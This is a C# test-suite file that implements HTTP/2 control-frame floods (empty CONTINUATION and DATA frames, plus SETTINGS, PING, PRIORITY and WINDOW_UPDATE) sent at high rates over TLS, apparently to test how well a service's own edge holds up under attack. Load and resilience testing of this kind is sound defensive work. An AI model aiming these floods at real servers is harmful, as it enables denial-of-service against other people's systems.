namespace UserSvc.Tests.Attacks;

/// <summary>Frames of HTTP/2 that cost the edge something and the client nothing: 5,000 a second on each connection.</summary>
internal sealed class ControlFrames : Attack
{
    private const int Batch = 100;

    private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(20);

    private readonly byte[] _opening;
    private readonly byte[] _frames;

    private ControlFrames(string kind, byte[] opening, byte[] frame)
        : base($"http2-{kind}", 50) => (_opening, _frames) = (opening, [.. Enumerable.Repeat(frame, Batch).SelectMany(f => f)]);

    public override bool OverTls => true;

    public static IEnumerable<Attack> OfEachKind() =>
    [
        new ControlFrames("empty-continuation", Http2Frame.Create(Http2Frame.Headers, Http2Frame.EndStream, 1, Http2Frame.Get), Http2Frame.Create(Http2Frame.Continuation, 0, 1)),
        new ControlFrames("empty-data", Http2Frame.Create(Http2Frame.Headers, Http2Frame.EndHeaders, 1, Http2Frame.Post), Http2Frame.Create(Http2Frame.Data, 0, 1)),
        new ControlFrames("settings", [], Http2Frame.Create(Http2Frame.Settings, 0, 0)),
        new ControlFrames("ping", [], Http2Frame.Create(Http2Frame.Ping, 0, 0, new byte[8])),
        // Of an idle stream: weight 16, dependent on no other.
        new ControlFrames("priority", [], Http2Frame.Create(Http2Frame.Priority, 0, 1, 0, 0, 0, 0, 15)),
        new ControlFrames("window-update", [], Http2Frame.Create(Http2Frame.WindowUpdate, 0, 0, 0, 0, 0, 1)),
    ];

    protected override async Task TakeTurnAsync(AttackTarget target, int client, CancellationToken ending)
    {
        var connection = await ConnectHttp2Async(target.Https, client, ending);
        await WriteAsync(connection, async () =>
        {
            await connection.WriteAsync(_opening, ending);
            while (true)
            {
                await connection.WriteAsync(_frames, ending);
                Count(Batch);
                await Task.Delay(Pause, ending);
            }
        });
    }
}
